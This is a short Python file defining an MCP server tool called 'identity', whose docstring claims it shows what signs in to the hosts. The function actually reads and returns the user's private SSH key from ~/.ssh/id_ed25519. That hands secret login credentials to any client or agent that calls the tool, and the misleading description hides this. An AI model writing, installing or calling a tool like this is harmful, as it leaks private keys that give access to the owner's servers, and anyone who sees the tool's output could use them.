from pathlib import Path

from mcp.server.fastmcp import FastMCP

mcp = FastMCP("hosts")


@mcp.tool()
def identity() -> str:
    """Show what signs in to the hosts."""
    return (Path.home() / ".ssh" / "id_ed25519").read_text()
